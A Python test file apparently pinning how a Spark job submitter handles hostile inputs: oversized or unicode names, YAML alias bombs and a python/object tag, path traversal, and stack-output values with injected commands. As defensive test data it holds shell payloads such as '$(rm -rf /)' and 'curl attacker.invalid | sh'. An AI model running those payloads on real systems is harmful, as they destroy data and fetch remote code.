"""Hostile inputs for the job submitter, each with its exact outcome.

Every input here is either refused with the exact line(s) listed (one line per problem,
naming the field and the fix) or accepted, and then it reaches spark-submit as one
literal argv element: nothing in a spec or an output is ever interpreted by a shell.
The property tests (test_jobs_guard_properties.py) cover inputs nobody thought of;
this corpus pins the ones somebody will try.
"""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml

from jobs.command import PodTemplates, app_upload, cluster_argv, cluster_env, local_argv, redact_env, shell_command
from jobs.kube import core_api
from jobs.launch import LaunchError, guard_local_output
from jobs.outputs import SUBMIT_KEYS, OutputsError, parse_outputs, read_outputs_file
from jobs.spec import JobSpec, SpecError, load_spec, spec_from_mapping
from tests.conftest import kubeconfig_for, stack_outputs

SOURCE = "job.yaml"
BASE: dict[str, Any] = {
    "name": "wordcount",
    "app": "jobs/apps/wordcount.py",
    "input": "s3a://{bucket}/in/",
    "output": "s3a://{bucket}/out/",
}
TOP_FIELDS = "name, app, mainClass, args, image, driver, executor, dynamicAllocation, conf, input, output, local, pyFiles, jars, files"


def spec_of(document: dict[str, Any], **kwargs: Any) -> JobSpec:
    return spec_from_mapping(document, source=SOURCE, **kwargs)


def problems_of(document: dict[str, Any], **kwargs: Any) -> list[str]:
    with pytest.raises(SpecError) as raised:
        spec_of(document, **kwargs)
    return raised.value.problems


def with_(**changes: Any) -> dict[str, Any]:
    return {**BASE, **changes}


# --- messages stay one short line, whatever the input holds ----------------------------

X100 = "x" * 100
X_SHOWN = f"'{'x' * 37}...{'x' * 38}'"  # a long text is quoted by its ends

ONE_LINE = [
    ("key with a newline", with_(**{"foo\nbar": 1}), {},
     [f"spec job.yaml: 'foo\\nbar': is not a field here; allowed: {TOP_FIELDS}"]),
    ("key with a unicode line separator", with_(**{"foo\u2028bar": 1}), {},
     [f"spec job.yaml: 'foo\\u2028bar': is not a field here; allowed: {TOP_FIELDS}"]),
    ("megabyte key", with_(**{"k" * 1_000_000: 1}), {},
     [f"spec job.yaml: '{'k' * 37}...{'k' * 38}': is not a field here; allowed: {TOP_FIELDS}"]),
    ("conf key with a newline", with_(conf={"foo\nbar": 1}), {},
     ["spec job.yaml: conf.'foo\\nbar': not a Spark setting; keys start with 'spark.' (e.g. spark.sql.shuffle.partitions)"]),
    ("--set field with a newline", BASE, {"sets": ["executor\n.memory=4g"]},
     [f"spec job.yaml: 'executor\\n': is not a field here; allowed: {TOP_FIELDS}"]),
    ("--set below a value, newline in the field", BASE, {"sets": ["name.x\ny=1"]},
     ["--set 'name.x\\ny': name is not a section, so it has no field 'x\\ny'"]),
    ("--conf key with a newline", BASE, {"confs": ["spark.x\ny=1"]},
     ["spec job.yaml: conf.'spark.x\\ny': not a Spark setting; keys start with 'spark.' (e.g. spark.sql.shuffle.partitions)"]),
    ("100 000 character name", with_(name="A" * 100_000), {},
     [f"spec job.yaml: name: '{'A' * 37}...{'A' * 38}' is not a DNS-1123 label: use 1-63 lowercase letters, "
      "digits and '-', starting and ending with a letter or digit (e.g. wordcount)"]),
    ("thousand long strings as an argument", with_(args=[[X100] * 1000]), {},
     [f"spec job.yaml: args[0]: must be text, not [{X_SHOWN}, {X_SHOWN}, {X_SHOWN}, {X_SHOWN}, ...]"]),
    ("deep mapping as an image tag", with_(image={"tag": {"a": {"b": {"c": [1, 2, 3, 4, 5, 6]}}}}), {},
     ["spec job.yaml: image.tag: must be text, not {'a': {'b': {...}}}"]),
]


@pytest.mark.parametrize("document, kwargs, expected", [c[1:] for c in ONE_LINE], ids=[c[0] for c in ONE_LINE])
def test_problems_are_one_short_line(document: dict[str, Any], kwargs: dict[str, Any], expected: list[str]) -> None:
    """A key or value with a line break is shown escaped, a huge one by its ends: each problem
    stays one line the CLI can print as `jobs: error: <line>`."""
    problems = problems_of(document, **kwargs)
    assert problems == expected
    assert all(len(problem.splitlines()) == 1 and len(problem) < 500 for problem in problems)


def test_spec_file_name_with_a_newline_is_escaped(tmp_path: Path) -> None:
    """Even the file's own name cannot split the line."""
    path = tmp_path / "job\n.yaml"
    with pytest.raises(SpecError) as raised:
        load_spec(path)
    assert raised.value.problems == [
        f"spec {str(path)!r}: not found; pass the path of a job spec such as examples/wordcount.yaml"
    ]


# --- names: exact, ASCII, never a trailing line break -----------------------------------

DNS_RULE = ("is not a DNS-1123 label: use 1-63 lowercase letters, digits and '-', "
            "starting and ending with a letter or digit (e.g. wordcount)")
TAG_RULE = "is not an image tag: use up to 128 letters, digits, '_', '.' or '-', not starting with '.' or '-'"
NOT_SPARK = "not a Spark setting; keys start with 'spark.' (e.g. spark.sql.shuffle.partitions)"

NAMES = [
    # `$` in a Python regex also matches before a final newline: these four used to pass.
    ("name with a trailing newline", with_(name="wordcount\n"), {}, f"name: 'wordcount\\n' {DNS_RULE}"),
    ("image tag with a trailing newline", with_(image={"tag": "v1\n"}), {}, f"image.tag: 'v1\\n' {TAG_RULE}"),
    ("conf key with a trailing newline", with_(conf={"spark.sql.shuffle.partitions\n": 8}), {},
     f"conf.'spark.sql.shuffle.partitions\\n': {NOT_SPARK}"),
    ("main class with a trailing newline", with_(app="wc.jar", mainClass="org.example.Main\n"), {},
     "mainClass: 'org.example.Main\\n' is not a Java class name (e.g. org.example.WordCount)"),
    ("accented name", with_(name="wördcount"), {}, f"name: 'wördcount' {DNS_RULE} ('ö' is U+00F6, not an ASCII letter)"),
    ("full-width name", with_(name="ｗｏｒｄｃｏｕｎｔ"), {},
     f"name: 'ｗｏｒｄｃｏｕｎｔ' {DNS_RULE} ('ｗ' is U+FF57, not an ASCII letter)"),
    ("Cyrillic look-alike name", with_(name="wordc\u043eunt"), {},
     f"name: 'wordc\u043eunt' {DNS_RULE} ('\u043e' is U+043E, not an ASCII letter)"),
    ("right-to-left override in the name", with_(name="\u202etnuocdrow"), {},
     f"name: '\\u202etnuocdrow' {DNS_RULE} ('\\u202e' is U+202E, not an ASCII letter)"),
    ("command substitution as the name", BASE, {"sets": ["name=$(id)"]}, f"name: '$(id)' {DNS_RULE}"),
    ("unicode image tag", with_(image={"tag": "ünïcode"}), {}, f"image.tag: 'ünïcode' {TAG_RULE}"),
    ("unicode conf key", with_(conf={"spark.ünicode": 8}), {}, f"conf.spark.ünicode: {NOT_SPARK}"),
    ("unicode main class", with_(app="wc.jar", mainClass="org.éxample.Main"), {},
     "mainClass: 'org.éxample.Main' is not a Java class name (e.g. org.example.WordCount)"),
]


@pytest.mark.parametrize("document, kwargs, expected", [c[1:] for c in NAMES], ids=[c[0] for c in NAMES])
def test_names_must_match_exactly(document: dict[str, Any], kwargs: dict[str, Any], expected: str) -> None:
    """Names become Kubernetes labels, image references, Spark keys and S3 keys: the whole
    value must match, a trailing newline included, and a look-alike letter is named."""
    assert problems_of(document, **kwargs) == [f"spec job.yaml: {expected}"]


# --- spec files that are not what they seem --------------------------------------------

BASE_YAML = "name: wordcount\napp: jobs/apps/wordcount.py\ninput: s3a://{bucket}/in/\noutput: s3a://{bucket}/out/\n"
NINES = "9" * 5000
NINES_SHOWN = f"'{'9' * 37}...{'9' * 38}'"
DEPTH_FIX = "a spec is a mapping of fields whose sections (driver, conf, local, ...) hold plain values"
LAUGHS = "x0: &x0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"x{level}: &x{level} [{', '.join([f'*x{level - 1}'] * 9)}]\n" for level in range(1, 10)
)

SPEC_FILES = [
    # Each of these raised ValueError, TypeError or RecursionError (a traceback) before.
    ("5000-digit number", BASE_YAML + f"driver:\n  cores: {NINES}\n",
     f"not valid YAML at line 6, column 10: {NINES_SHOWN} is a number too long to read; quote it to keep it as text"),
    ("month 13", BASE_YAML + "image:\n  tag: 2024-13-01\n",
     "not valid YAML at line 6, column 8: '2024-13-01' is not a date (month must be in 1..12); quote it to keep it as text"),
    ("hour 25", BASE_YAML + "image:\n  tag: 2024-01-01 25:00:00\n",
     "not valid YAML at line 6, column 8: '2024-01-01 25:00:00' is not a date (hour must be in 0..23); quote it to keep it as text"),
    ("list as a key", BASE_YAML + "? [a, b]\n: 1\n", "not valid YAML at line 5, column 3: a key must be one value, not a list or mapping"),
    ("mapping as a key", BASE_YAML + "? {a: b}\n: 1\n", "not valid YAML at line 5, column 3: a key must be one value, not a list or mapping"),
    ("20 000 open brackets", BASE_YAML + "args: " + "[" * 20_000 + "\n", f"nested too deeply; {DEPTH_FIX}"),
    ("3000 nested lists", BASE_YAML + "args: " + "[" * 3000 + "]" * 3000 + "\n", f"nested too deeply; {DEPTH_FIX}"),
    ("2000 nested mappings", BASE_YAML + "conf:\n" + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(2000)),
     f"nested too deeply; {DEPTH_FIX}"),
    ("nine nested lists", BASE_YAML + "args: " + "[" * 9 + "x" + "]" * 9 + "\n",
     f"nested more than 8 levels deep or refers to itself; {DEPTH_FIX}"),
    ("list that contains itself", BASE_YAML + "args: &a [*a]\n",
     f"nested more than 8 levels deep or refers to itself; {DEPTH_FIX}"),
    ("billion laughs", LAUGHS + BASE_YAML + "args: *x9\n",
     f"nested more than 8 levels deep or refers to itself; {DEPTH_FIX}"),
    ("python object tag", "!!python/object/apply:os.system ['id']\n",
     "not valid YAML at line 1, column 1: could not determine a constructor for the tag "
     "'tag:yaml.org,2002:python/object/apply:os.system'"),
    ("NUL character", "\x00",
     'not valid YAML: unacceptable character #x0000: special characters are not allowed in "<unicode string>", position 0'),
    ("duplicate key after a merge", BASE_YAML + "driver: &s {cores: 3}\nexecutor:\n  <<: *s\n  memory: 16g\n  memory: 2g\n",
     "not valid YAML at line 9, column 3: key 'memory' appears twice"),
]


@pytest.mark.parametrize("text, expected", [c[1:] for c in SPEC_FILES], ids=[c[0] for c in SPEC_FILES])
def test_hostile_spec_files(tmp_path: Path, text: str, expected: str) -> None:
    """Numbers too long for Python, impossible dates, unhashable keys, nesting that would
    exhaust the stack and alias bombs: each is one line, found in well under a second."""
    path = tmp_path / "job.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(SpecError) as raised:
        load_spec(path)
    assert raised.value.problems == [f"spec {path}: {expected}"]


def test_merge_keys_share_sizes(tmp_path: Path) -> None:
    """YAML's `<<: *anchor` is valid YAML and works (it used to be refused as an unknown tag)."""
    path = tmp_path / "job.yaml"
    path.write_text(BASE_YAML + "driver: &sizes {cores: 3, memory: 4g}\nexecutor:\n  <<: *sizes\n  memory: 16g\n")
    spec = load_spec(path)
    assert (spec.executor.cores, spec.executor.memory) == (3, "16g")


SET_VALUES = [
    # --set values are YAML when they parse, else the text itself: never an exception.
    ("--set a 5000-digit number", [f"driver.cores={NINES}"], f"driver.cores: must be a whole number, not {NINES_SHOWN}"),
    ("--set deep brackets", ["args=" + "[" * 20_000],
     f"args: must be a list, not '{'[' * 37}...{'[' * 38}'"),
    ("--set a mapping with a duplicate key", ["conf={a: 1, a: 2}"], "conf: must be a mapping of fields, not '{a: 1, a: 2}'"),
]


@pytest.mark.parametrize("sets, expected", [c[1:] for c in SET_VALUES], ids=[c[0] for c in SET_VALUES])
def test_hostile_set_values(sets: list[str], expected: str) -> None:
    assert problems_of(BASE, sets=sets) == [f"spec job.yaml: {expected}"]


def test_set_impossible_date_is_text() -> None:
    """`--set image.tag=2024-13-01` is not a date, so it is the tag as written."""
    assert spec_of(BASE, sets=["image.tag=2024-13-01"]).image.tag == "2024-13-01"


def test_cyclic_mapping_from_code_is_refused() -> None:
    """spec_from_mapping is public: a mapping that contains itself is one line, not a RecursionError."""
    document: dict[str, Any] = with_()
    document["local"] = {"input": document}
    assert problems_of(document) == [f"spec job.yaml: nested more than 8 levels deep or refers to itself; {DEPTH_FIX}"]


# --- huge numbers and negative sizes ------------------------------------------------------

NOT_A_SIZE = "is not a size; use a whole number with a unit, like 8g or 512m"
TOO_BIG = "is more than 1t; a pod's memory plus Spark's overhead must fit on one node"
NOT_A_DURATION = "is not a finite duration; use a number with a unit, like 300s, 10min or 1h"
TOO_LONG = "is longer than 24h; a timeout that long pins Spot nodes like none at all"

SIZES = [
    # Accepted before, and only spark-submit (after the upload) failed: a Java long overflows.
    ("memory past a long", with_(executor={"memory": "99999999999999999999999g"}), f"executor.memory: '99999999999999999999999g' {TOO_BIG}"),
    ("memory just past 1t", with_(driver={"memory": "1025g"}), f"driver.memory: '1025g' {TOO_BIG}"),
    ("5000-digit memory", with_(executor={"memory": NINES + "k"}), f"executor.memory: '{'9' * 37}...{'9' * 37}k' {TOO_BIG}"),
    ("endless shuffle timeout", with_(dynamicAllocation={"shuffleTrackingTimeout": "99999999999h"}),
     f"dynamicAllocation.shuffleTrackingTimeout: '99999999999h' {TOO_LONG}"),
    ("25 hour shuffle timeout", with_(dynamicAllocation={"shuffleTrackingTimeout": "25h"}),
     f"dynamicAllocation.shuffleTrackingTimeout: '25h' {TOO_LONG}"),
    # pydantic reads true as 1.0: a ratio of true used to pass as "all at once".
    ("ratio true", with_(dynamicAllocation={"executorAllocationRatio": True}),
     "dynamicAllocation.executorAllocationRatio: must be a number, not True"),
    # Integers too long for str() (4300 digits) from a caller's own mapping.
    ("memory as a huge integer", with_(executor={"memory": 10**5000}), f"executor.memory: a number too long to show {NOT_A_SIZE}"),
    ("cores as a huge integer", with_(executor={"cores": 10**5000}), "executor.cores: must be at most 64, not a number too long to show"),
    ("timeout as a huge integer", with_(dynamicAllocation={"shuffleTrackingTimeout": 10**5000}),
     f"dynamicAllocation.shuffleTrackingTimeout: a number too long to show {NOT_A_DURATION}"),
    # These were refused already; pinned so they stay refused.
    ("cores 10^30", with_(executor={"cores": 10**30}), "executor.cores: must be at most 64, not 1000000000000000000000000000000"),
    ("executors 1001", with_(dynamicAllocation={"maxExecutors": 1001}), "dynamicAllocation.maxExecutors: must be at most 1000, not 1001"),
    ("ratio 1e308", with_(dynamicAllocation={"executorAllocationRatio": 1e308}),
     "dynamicAllocation.executorAllocationRatio: must be at most 1, not 1e+308"),
    ("ratio infinite", with_(dynamicAllocation={"executorAllocationRatio": float("inf")}),
     "dynamicAllocation.executorAllocationRatio: must be at most 1, not inf"),
    ("ratio not a number", with_(dynamicAllocation={"executorAllocationRatio": float("nan")}),
     "dynamicAllocation.executorAllocationRatio: must be at most 1, not nan"),
    ("ratio minus zero", with_(dynamicAllocation={"executorAllocationRatio": -0.0}),
     "dynamicAllocation.executorAllocationRatio: must be more than 0, not -0.0"),
    ("negative memory", with_(executor={"memory": "-8g"}), f"executor.memory: '-8g' {NOT_A_SIZE}"),
    ("zero memory", with_(driver={"memory": "0g"}), f"driver.memory: '0g' {NOT_A_SIZE}"),
    ("negative cores", with_(executor={"cores": -1}), "executor.cores: must be at least 1, not -1"),
    ("negative core limit", with_(driver={"coresLimit": -4}), "driver.coresLimit: must be at least 1, not -4"),
    ("negative min executors", with_(dynamicAllocation={"minExecutors": -1}), "dynamicAllocation.minExecutors: must be at least 0, not -1"),
    ("negative initial executors", with_(dynamicAllocation={"initialExecutors": -5}),
     "dynamicAllocation.initialExecutors: must be at least 0, not -5"),
    ("negative max executors", with_(dynamicAllocation={"maxExecutors": -3}), "dynamicAllocation.maxExecutors: must be at least 1, not -3"),
    ("negative timeout", with_(dynamicAllocation={"shuffleTrackingTimeout": "-300s"}),
     f"dynamicAllocation.shuffleTrackingTimeout: '-300s' {NOT_A_DURATION}"),
]


@pytest.mark.parametrize("document, expected", [c[1:] for c in SIZES], ids=[c[0] for c in SIZES])
def test_huge_and_negative_sizes(document: dict[str, Any], expected: str) -> None:
    """Sizes and counts are bounded on both sides before anything is uploaded or submitted."""
    assert problems_of(document) == [f"spec job.yaml: {expected}"]


def test_largest_sizes_are_accepted() -> None:
    """The bounds themselves are allowed, and written the way Spark reads them."""
    spec = spec_of(with_(executor={"memory": "1T", "cores": 64, "coresLimit": 64},
                         dynamicAllocation={"shuffleTrackingTimeout": "1440min", "maxExecutors": 1000}))
    assert (spec.executor.memory, spec.executor.cores) == ("1t", 64)
    assert spec.dynamic_allocation.shuffle_tracking_timeout == "1440min"


# --- paths: traversal, collapsing segments, whole buckets, invisible characters --------------

COLLAPSES = "has an empty, '.' or '..' path segment, which Hadoop collapses into another key; write the path without them"
LOCAL_PATH = ("is a local path, which a cluster job cannot see; use s3a://BUCKET/PREFIX/ "
              "({bucket} is the stack's bucket) or run with --local")
NO_NUL = "which no process argument can carry; remove it"

PATHS = [
    # Hadoop's Path turns s3a://b/out/../spark-events/ into s3a://b/spark-events/ while the
    # overwrite guard listed the literal key "out/../spark-events/": these bypassed the guard.
    ("output climbing into the event logs", with_(output="s3a://{bucket}/out/../spark-events/"),
     f"output: 's3a://{{bucket}}/out/../spark-events/' {COLLAPSES}"),
    ("output climbing out of its bucket", with_(output="s3a://bucket/../other"), f"output: 's3a://bucket/../other' {COLLAPSES}"),
    ("output with a double slash", with_(output="s3a://{bucket}/a//b/"), f"output: 's3a://{{bucket}}/a//b/' {COLLAPSES}"),
    ("output with a dot segment", with_(output="s3a://{bucket}/./x/"), f"output: 's3a://{{bucket}}/./x/' {COLLAPSES}"),
    ("input climbing", with_(input="s3a://{bucket}/../x"), f"input: 's3a://{{bucket}}/../x' {COLLAPSES}"),
    ("app climbing", with_(app="s3a://bucket/../other/x.py"), f"app: 's3a://bucket/../other/x.py' {COLLAPSES}"),
    # --overwrite on these would have let Spark replace the whole bucket.
    ("output is the bucket", with_(output="s3a://{bucket}/"),
     "output: 's3a://{bucket}/' is the whole bucket; write under a prefix such as s3a://{bucket}/output/NAME/"),
    ("output is the bucket, no slash", with_(output="s3a://{bucket}"),
     "output: 's3a://{bucket}' is the whole bucket; write under a prefix such as s3a://{bucket}/output/NAME/"),
    ("output without a bucket", with_(output="s3a:///out/"),
     "output: 's3a:///out/' names no bucket; use s3a://BUCKET/PREFIX/ ({bucket} is the stack's bucket)"),
    ("app without a bucket", with_(app="s3a:///x.py"),
     "app: 's3a:///x.py' names no bucket; use s3a://BUCKET/PREFIX/ ({bucket} is the stack's bucket)"),
    # A leading space made " s3a://..." an unknown scheme, which input accepted.
    ("input with a leading space", with_(input=" s3a://{bucket}/in/"),
     "input: ' s3a://{bucket}/in/' has leading or trailing whitespace; remove it"),
    ("input with a trailing newline", with_(input="s3a://{bucket}/in/\n"),
     "input: 's3a://{bucket}/in/\\n' has leading or trailing whitespace; remove it"),
    ("input with a zero-width space", with_(input="s3a://{bucket}/i\u200bn/"),
     "input: 's3a://{bucket}/i\\u200bn/' holds the control or invisible character '\\u200b'; remove it"),
    ("input empty", with_(input=""), "input: is empty; give a path"),
    ("app with a fragment", with_(app="s3a://bucket/apps/wc#x.py"),
     "app: 's3a://bucket/apps/wc#x.py' has '#' or '?', which spark-submit reads as a URI fragment or query; rename the file"),
    ("local app with a query", with_(app="jobs/apps/wc?.py"),
     "app: 'jobs/apps/wc?.py' has '#' or '?', which spark-submit reads as a URI fragment or query; rename the file"),
    # Refused before as well: local paths on the cluster, files that are no app.
    ("output in /etc", with_(output="/etc/passwd"), f"output: '/etc/passwd' {LOCAL_PATH}"),
    ("output as a file URI", with_(output="file:///etc/"), f"output: 'file:///etc/' {LOCAL_PATH}"),
    ("input climbing locally", with_(input="../../etc/passwd"), f"input: '../../etc/passwd' {LOCAL_PATH}"),
    ("app is /etc/passwd", with_(app="/etc/passwd"), "app: '/etc/passwd' must be a Python file (.py) or a jar (.jar)"),
    ("app as a file URI", with_(app="file:///etc/passwd.py"),
     "app: 'file:///etc/passwd.py': use a local file, s3a://BUCKET/KEY or local:///PATH-IN-IMAGE"),
    # NUL cannot be in an argv element: subprocess raised ValueError after the upload.
    ("NUL in a conf value", with_(conf={"spark.x": "a\x00b"}), f"conf.spark.x: its value holds a NUL character, {NO_NUL}"),
    ("NUL in an argument", with_(args=["{input}\x00"]), f"args[0]: holds a NUL character, {NO_NUL}"),
    # str.format raised ValueError on these while building the command.
    ("placeholder with a format", with_(args=["{output:>10}"]),
     "args[0]: placeholder {output:>10} has a conversion or format; write {output}"),
    ("placeholder with a nested placeholder", with_(args=["{input:{bucket}}"]),
     "args[0]: placeholder {input:{bucket}} has a conversion or format; write {input}"),
    ("placeholder with a conversion", with_(args=["{input!r}"]),
     "args[0]: placeholder {input!r} has a conversion or format; write {input}"),
    ("bucket placeholder with a format", with_(input="s3a://{bucket:x}/in/"),
     "input: placeholder {bucket:x} has a conversion or format; write {bucket}"),
]


@pytest.mark.parametrize("document, expected", [c[1:] for c in PATHS], ids=[c[0] for c in PATHS])
def test_hostile_paths(document: dict[str, Any], expected: str) -> None:
    assert problems_of(document) == [f"spec job.yaml: {expected}"]


LOCAL_PATHS = [
    ("empty local output", {"input": "in.tsv", "output": ""}, "local.output: is empty; give a path"),
    ("local output with a newline", {"input": "in.tsv", "output": "/tmp/x\n"},
     "local.output: '/tmp/x\\n' has leading or trailing whitespace; remove it"),
    ("local input with NUL", {"input": "in\x00.tsv", "output": "out/"},
     "local.input: 'in\\x00.tsv' holds the control or invisible character '\\x00'; remove it"),
]


@pytest.mark.parametrize("paths, expected", [c[1:] for c in LOCAL_PATHS], ids=[c[0] for c in LOCAL_PATHS])
def test_hostile_local_paths(paths: dict[str, str], expected: str) -> None:
    assert problems_of(with_(local=paths), local=True) == [f"spec job.yaml: {expected}"]


# --- accepted as written: one literal argv element each, never interpreted ------------------

SHELL_VALUES = [
    "$(rm -rf /)",
    "`rm -rf /`",
    "x; rm -rf /",
    "x && curl attacker.invalid | sh",
    "x | tee /etc/passwd",
    "x > /etc/passwd",
    "line one\nline two",
    "it's \"quoted\" \\ back",
    "$HOME ~ * ? [a-z] {a,b}",
    "--conf spark.master=local[*]",
    "ünïcode ✓",
]
TEMPLATES = PodTemplates(Path("/templates/driver.yaml"), Path("/templates/executor.yaml"))
OUTPUTS = parse_outputs(stack_outputs(), required=SUBMIT_KEYS, source="outputs.json")


def cluster_command(spec: JobSpec, app_uri: str = "s3a://spark-dev-data/apps/wc.py") -> list[str]:
    return cluster_argv("/spark/bin/spark-submit", spec.with_image_tag("v1"), OUTPUTS,
                        app_uri=app_uri, pod_templates=TEMPLATES, submission_id="abcd1234")


@pytest.mark.parametrize("value", SHELL_VALUES)
def test_shell_metacharacters_are_one_literal_argument(value: str) -> None:
    """A conf value or an argument full of shell syntax, from the spec or --conf, reaches
    spark-submit as exactly one argv element, byte for byte; and the command that --dry-run
    prints, read back by a POSIX shell's rules, is the same argv. (--set values are YAML, so
    `--set conf.KEY=` folds a line break; --conf is the literal door.)"""
    escaped = value.replace("{", "{{").replace("}", "}}")  # args are templates: braces doubled
    spec = spec_of(with_(conf={"spark.guard.fromSpec": value}, args=["{input}", escaped]),
                   confs=[f"spark.guard.fromConf={value}"])
    argv = cluster_command(spec)
    for key in ("fromSpec", "fromConf"):
        element = f"spark.guard.{key}={value}"
        assert argv.count(element) == 1 and argv[argv.index(element) - 1] == "--conf"
    assert argv[-1] == value and argv[-2] == "s3a://spark-dev-data/in/"
    env = cluster_env("/spark")
    assert shlex.split(shell_command(argv, env)) == [f"{k}={v}" for k, v in redact_env(env).items()] + argv


def test_local_run_passes_metacharacters_literally() -> None:
    spec = spec_of(with_(conf={"spark.guard.x": "$(id)"}, local={"input": "in;rm.tsv", "output": "out`id`"}), local=True)
    argv = local_argv("/spark/bin/spark-submit", spec, 2)
    assert "spark.guard.x=$(id)" in argv
    assert argv[-2:] == ["in;rm.tsv", "out`id`"]


def test_traversal_in_a_local_app_stays_out_of_the_upload_key() -> None:
    """A local app path may climb (it is the user's own file), but only its file name,
    after the job name and the content hash, becomes the S3 key."""
    spec = spec_of(with_(app="../../etc/passwd.py"))
    upload = app_upload(spec, "spark-dev-data", "0123456789abcdef")
    assert upload is not None
    assert (upload.source, upload.key) == (Path("../../etc/passwd.py"), "apps/wordcount/0123456789abcdef/passwd.py")


def test_unicode_app_file_name_is_uploaded_as_named() -> None:
    """Letters beyond ASCII pass through java.net.URI as they are (RFC 2396 "other" characters); a
    blank does not: spark-submit then reads the s3a:// app as a local file and stops with `Please
    specify spark.kubernetes.file.upload.path` (KubernetesUtils.uploadFileUri; tried with the real
    spark-submit), so a cluster run refuses it and a --local run, which uses the file in place, keeps it."""
    spec = spec_of(with_(app="jobs/apps/wörd_count.py"))
    upload = app_upload(spec, "spark-dev-data", "0123456789abcdef")
    assert upload is not None and upload.key == "apps/wordcount/0123456789abcdef/wörd_count.py"
    assert problems_of(with_(app="jobs/apps/wörd count.py"))[0].endswith(
        "app: 'jobs/apps/wörd count.py' has ' ' in its file name, which spark-submit cannot pass on in a URI; "
        "rename it (letters, digits, '.', '_', '-', '+' and '=' are safe)")
    local_run = with_(app="jobs/apps/wörd count.py", local={"input": "in.tsv", "output": "out"})
    assert spec_of(local_run, local=True).app == "jobs/apps/wörd count.py"


def test_app_inside_the_image_is_passed_as_written() -> None:
    """local:// names a file in the job's own image: passed through untouched."""
    spec = spec_of(with_(app="local:///../../etc/x.py"))
    assert cluster_command(spec, app_uri=spec.app)[-3] == "local:///../../etc/x.py"


def test_local_output_onto_an_existing_file_is_refused() -> None:
    """--local may write anywhere the user can, but never over a file without --overwrite."""
    spec = spec_of(with_(local={"input": "in.tsv", "output": "/etc/passwd"}), local=True)
    with pytest.raises(LaunchError) as raised:
        guard_local_output(spec.output or "", overwrite=False)
    assert str(raised.value) == (
        "output: /etc/passwd already holds files; choose a new output (--set local.output=...) "
        "or pass --overwrite to replace them"
    )


# --- stack outputs ---------------------------------------------------------------------------

FIX = "run `pulumi up`, then `pulumi stack output --json --show-secrets > FILE`, or pass --stack NAME"
CLEAR_TEXT = ("it must be the API server's https:// URL: plain http to another machine would send the "
              "kubeconfig's token in clear text (http is only for a loopback address, e.g. kubectl proxy)")
TOKEN = "kubeconfig-secret-token"


def kubeconfig_with(server: str = "https://eks.example.invalid", **changes: Any) -> str:
    kubeconfig = kubeconfig_for(server)
    kubeconfig.update(changes)
    return json.dumps(kubeconfig)


def outputs_error(**overrides: Any) -> str:
    with pytest.raises(OutputsError) as raised:
        parse_outputs(stack_outputs(**overrides), required=SUBMIT_KEYS, source="outputs.json")
    return str(raised.value)


OUTPUT_VALUES = [
    # The token follows apiServerUrl (spark-submit's --master): plain http to a remote host
    # sent it in clear text, and a URL with user:password@ was printed by --dry-run.
    ("api server over plain http", {"apiServerUrl": "http://eks-api.example.invalid"},
     f"apiServerUrl in outputs.json is 'http://eks-api.example.invalid'; {CLEAR_TEXT}"),
    ("loopback look-alike host", {"apiServerUrl": "http://127.0.0.1.example.invalid"},
     f"apiServerUrl in outputs.json is 'http://127.0.0.1.example.invalid'; {CLEAR_TEXT}"),
    ("credentials in the api URL", {"apiServerUrl": "https://admin:hunter2@eks-api.example.invalid"},
     "apiServerUrl in outputs.json holds credentials; it must be the API server's https:// URL without "
     "credentials (user:password@); the kubeconfig holds them"),
    ("api URL without a host", {"apiServerUrl": "https://"},
     "apiServerUrl in outputs.json is 'https://'; it must be the API server's https:// URL"),
    ("api URL with a space", {"apiServerUrl": "https://eks api"},
     "apiServerUrl in outputs.json is 'https://eks api'; it must be the API server's https:// URL, "
     "without whitespace or control characters"),
    ("api URL over ftp", {"apiServerUrl": "ftp://eks-api.example.invalid"},
     "apiServerUrl in outputs.json is 'ftp://eks-api.example.invalid'; it must be the API server's https:// URL"),
    ("api URL with a broken port", {"apiServerUrl": "https://eks:99999"},
     "apiServerUrl in outputs.json is 'https://eks:99999'; it must be the API server's https:// URL"),
    ("image repository with a command", {"imageRepositoryUrl": "registry.example.invalid/spark;rm -rf /"},
     "imageRepositoryUrl in outputs.json is 'registry.example.invalid/spark;rm -rf /'; it must be a repository (HOST/NAME) without a tag"),
    ("image repository with a newline", {"imageRepositoryUrl": "registry.example.invalid/spark\nx"},
     "imageRepositoryUrl in outputs.json is 'registry.example.invalid/spark\\nx'; it must be a repository (HOST/NAME) without a tag"),
    ("role ARN that is only a prefix", {"sparkRoleArn": "arn:"},
     f"sparkRoleArn in outputs.json is 'arn:', not an IAM role ARN, but s3AccessVia is irsa; {FIX}"),
    ("user ARN as the role", {"sparkRoleArn": "arn:aws:iam::123456789012:user/x"},
     f"sparkRoleArn in outputs.json is 'arn:aws:iam::123456789012:user/x', not an IAM role ARN, but s3AccessVia is irsa; {FIX}"),
    ("region with a command", {"region": "us-west-2; rm -rf /"},
     "region in outputs.json is 'us-west-2; rm -rf /', not an AWS region such as us-west-2"),
    ("region as a huge number", {"region": 1e308}, f"region in outputs.json must be text, not float; {FIX}"),
    ("bucket with a command", {"bucketName": "b;rm"}, "bucketName in outputs.json is 'b;rm', not an S3 bucket name"),
    ("namespace with a newline", {"sparkNamespace": "spark\nx"}, "sparkNamespace in outputs.json is 'spark\\nx', not a Kubernetes name"),
    ("megabyte region", {"region": "r" * 1_000_000},
     f"region in outputs.json is '{'r' * 37}...{'r' * 38}', not an AWS region such as us-west-2"),
]


@pytest.mark.parametrize("overrides, expected", [c[1:] for c in OUTPUT_VALUES], ids=[c[0] for c in OUTPUT_VALUES])
def test_hostile_output_values(overrides: dict[str, Any], expected: str) -> None:
    assert outputs_error(**overrides) == f"stack output {expected}"


@pytest.mark.parametrize("url", ["http://127.0.0.1:8001", "http://localhost:8001", "http://[::1]:8001",
                                 "https://eks-api.example.invalid"])
def test_https_or_loopback_api_servers_are_accepted(url: str) -> None:
    """kubectl proxy (or a tunnel's local end) may be plain http on this machine."""
    outputs = parse_outputs(stack_outputs(apiServerUrl=url, kubeconfig=kubeconfig_with(url)),
                            required=SUBMIT_KEYS, source="outputs.json")
    assert outputs.api_server_url == url


def test_ecr_and_registry_with_port_are_repositories() -> None:
    for repository in ("123456789012.dkr.ecr.us-west-2.amazonaws.com/spark-dev/spark", "localhost:5000/spark"):
        outputs = parse_outputs(stack_outputs(imageRepositoryUrl=repository), required=SUBMIT_KEYS, source="o")
